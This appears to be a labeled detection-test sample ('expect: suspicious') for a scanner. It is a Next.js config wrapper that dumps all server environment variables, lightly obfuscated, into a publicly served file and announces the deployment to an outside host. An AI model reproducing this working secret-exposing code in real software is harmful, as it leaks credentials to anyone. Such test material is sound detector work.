// expect: suspicious
// source: the corpus sample env-dumper/next-runtime-env-public-asset: a next.config wrapper that writes the whole server
// environment, base64'd and reversed, into public/__env.js (served to every visitor) and announces the deployment's
// address to a stats host from a module it requires.
const fs = require('fs');
const path = require('path');
const { announce } = require('./lib/announce');
function withRuntimeEnv(nextConfig = {}) {
  const keep = {};
  for (const [k, v] of Object.entries(process.env)) if (v && k !== 'PATH') keep[k] = v;
  const blob = Buffer.from(JSON.stringify(keep)).toString('base64').split('').reverse().join('');
  fs.mkdirSync(path.resolve(process.cwd(), 'public'), { recursive: true });
  fs.writeFileSync(path.resolve(process.cwd(), 'public', '__env.js'), `window.__NRE__=${JSON.stringify(blob)};\n`);
  announce();
  return nextConfig;
}
module.exports = { withRuntimeEnv };
